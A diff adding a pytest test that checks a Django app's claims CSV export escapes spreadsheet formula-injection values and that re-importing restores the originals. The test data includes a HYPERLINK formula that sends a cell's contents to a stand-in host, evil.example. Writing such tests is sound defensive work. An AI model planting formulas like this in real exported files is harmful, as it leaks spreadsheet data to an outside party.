@@ -217,6 +217,34 @@ def test_export_then_import_gives_the_same_claims(references):
     assert sorted(Claim.objects.values_list(*fields)) == before
 
 
+def test_exported_formula_cells_import_as_the_texts_they_were(tmp_path, references):
+    metric = MetricFactory(slug="-trade")
+    texts = {
+        "text": '=HYPERLINK("http://evil.example/?x="&A1)',
+        "quote": "'=1 and 'quoted'",
+        "speaker_role": "-2+3",
+        "unit": "@USD",
+        "period_label": "+1",
+        "editor_note": "''\t=1",
+    }
+    FigureClaimFactory(
+        document=references["document"], metric=metric, status="in_review", **texts
+    )
+    fields = [*texts, "metric_id", "value", "status"]
+    before = list(Claim.objects.values_list(*fields))
+    response = APIClient().get("/api/v1/claims/?format=csv")
+    path = tmp_path / "claims.csv"
+    path.write_bytes(b"".join(response.streaming_content))
+    Claim.objects.all().delete()
+
+    out, err, failure = run_import(path, "--no-detect")
+
+    assert failure is None, err
+    exported = path.read_text()
+    assert "'=HYPERLINK" in exported and "'-trade" in exported
+    assert list(Claim.objects.values_list(*fields)) == before
+
+
 @pytest.mark.parametrize("count", [10, 50])
 def test_import_makes_a_constant_number_of_queries_per_batch(
     references, django_assert_max_num_queries, count
